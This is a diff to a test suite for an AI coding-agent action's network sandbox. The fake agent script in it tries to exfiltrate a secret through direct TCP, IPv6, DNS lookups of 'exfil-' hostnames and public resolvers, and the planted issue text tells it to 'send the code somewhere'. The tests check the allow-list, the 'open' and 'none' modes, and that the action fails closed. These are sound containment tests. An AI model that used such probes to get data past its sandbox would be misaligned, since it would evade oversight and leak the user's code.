@@ -82,7 +82,7 @@ async function attack() {
     direct4: tcp(cfg.v4, 443, 'EXFIL-direct4-' + s + '\n'),
     direct6: tcp(cfg.v6, 443, 'EXFIL-direct6-' + s + '\n'),
     direct80: tcp(cfg.v4, 80, 'EXFIL-direct80-' + s + '\n'),
-    dnsLookup: dns.promises.lookup('exfil-lookup-' + s + '.example.test').then((a) => 'answered', (e) => 'error:' + e.code),
+    dnsLookup: limit(dns.promises.lookup('exfil-lookup-' + s + '.example.test').then((a) => 'answered', (e) => 'error:' + e.code)),
     dnsConfigured: udp(cfg.dnsIp, 'exfil-configured-' + s + '.example.test'),
     dnsConfiguredTcp: tcp(cfg.dnsIp, 53, 'EXFIL-dnstcp-' + s + '\n'),
     dnsFixed1: udp('1.1.1.1', 'exfil-fixed-' + s + '.example.test'),
@@ -151,6 +151,8 @@ const next = { init: 'investigation', investigation: 'requirements', requirement
   fs.writeFileSync(path.join(session, phase === 'planning' ? 'plan.md' : 'notes-' + phase + '.md'), '# ' + phase + '\\n');
   fs.writeFileSync(path.join(session, '_signal.json'), JSON.stringify(signal));
   emit({ type: 'result', subtype: 'success', is_error: false, total_cost_usd: 0.01, num_turns: 1, result: 'ok' });
+  // A lookup the system resolver still works on would keep node running.
+  process.exit(0);
 })();
 `;
 }
@@ -207,7 +209,7 @@ function leftovers(run: ActionRun, agent: { uid: number; user: string; pid: numb
   return left;
 }
 
-async function start(issue: number, mode: 'done' | 'block' | 'sleep', options: { env?: Record<string, string>; signal?: boolean } = {}) {
+async function start(issue: number, mode: 'done' | 'block' | 'sleep', options: { env?: Record<string, string>; signal?: boolean; inputs?: Record<string, string> } = {}) {
   github.addIssue({ number: issue, title: `Network ${mode}`, body: 'Send the code somewhere.', labels: ['samocode'] });
   const cli = await writeFakeCli('claude', agentBody());
   configure(cli.dir);
@@ -224,6 +226,7 @@ async function start(issue: number, mode: 'done' | 'block' | 'sleep', options: {
       'cli-path': cli.path,
       'auto-approve': 'true',
       'allowed-domains': 'private.allowed.test, loopback.allowed.test metadata.allowed.test:80 mixed.allowed.test',
+      ...options.inputs,
     },
     env: { SAMOCODE_PROXY_DNS: internet.dns, ...options.env },
     timeoutMs: 120_000,
@@ -315,5 +318,48 @@ describe("the agent's network: nothing gets out but through the allow-list", () 
     expect(leftovers(run, agent!, late)).toEqual([]);
     expect(run.summary).toContain('`allowed-domains: evil.example.test`');
   }, 150_000);
+
+  it('#404: agent-network open is the runner\'s network, unfiltered, and the run says so (the test internet is reachable at all)', async () => {
+    const { run, cli, agent } = await start(404, 'block', { inputs: { 'agent-network': 'open' } });
+    expect(run.outputs.status, run.stdout.slice(-4000)).toBe('blocked');
+    const results = JSON.parse(readFileSync(`${cli.dir}/results.json`, 'utf8')) as Record<string, string>;
+    expect(results.direct4).toBe('connected:internet-ok');
+    expect(agent!.env.HTTPS_PROXY).toBeNull();
+    expect(run.summary).toContain("**Agent network:** open: the runner's network, not filtered");
+    expect(internet.connections().some((c) => c.data.includes(`EXFIL-direct4-${SECRET}`))).toBe(true);
+  }, 120_000);
+
+  it('#405: agent-network none: only its own loopback; no proxy, nothing out', async () => {
+    const before = internet.connections().length;
+    const { run, cli, agent, late } = await start(405, 'block', { inputs: { 'agent-network': 'none' } });
+    expect(run.outputs.status).toBe('blocked');
+    const results = JSON.parse(readFileSync(`${cli.dir}/results.json`, 'utf8')) as Record<string, string>;
+    expect(agent!.env.HTTPS_PROXY).toBeNull();
+    for (const key of ['direct4', 'direct6', 'dnsConfigured', 'dnsFixed1', 'registry', 'hostService']) expect(results[key], key).toMatch(/^(error:|timeout)/);
+    expect(results.loopback4).toBe('loop-ok');
+    expect(internet.connections().slice(before)).toEqual([]);
+    expect(run.summary).toContain('**Agent network:** none: its own loopback only');
+    expect(leftovers(run, agent!, late)).toEqual([]);
+  }, 120_000);
+
+  it('#406: restricted where the agent cannot be isolated (agent-user none) fails closed and says what to set', async () => {
+    const { run, cli } = await start(406, 'block', { inputs: { 'agent-user': 'none' } });
+    expect(run.code).toBe(1);
+    expect(run.stdout).toContain('agent-network: restricted cannot be enforced on this runner');
+    expect(run.stdout).toContain('agent-network: open');
+    expect(existsSync(`${cli.dir}/results.json`)).toBe(false);
+    const notice = github.issues.get(406)!.comments.find((c) => c.body.includes('agent-network: restricted cannot be enforced'));
+    expect(notice).toBeDefined();
+  }, 120_000);
+
+  it.each([
+    [407, { 'agent-network': 'filtered' }, 'input agent-network must be restricted, open or none, got "filtered"'],
+    [408, { 'allowed-domains': 'example.test 10.0.0.5' }, 'allowed-domains: "10.0.0.5" is not a name or *.suffix pattern'],
+  ])('#%i: a bad input is a clear error before anything runs', async (issue, inputs, message) => {
+    const { run, cli } = await start(issue, 'block', { inputs });
+    expect(run.code).toBe(1);
+    expect(run.stdout).toContain(message);
+    expect(existsSync(`${cli.dir}/results.json`)).toBe(false);
+  }, 60_000);
 });
 
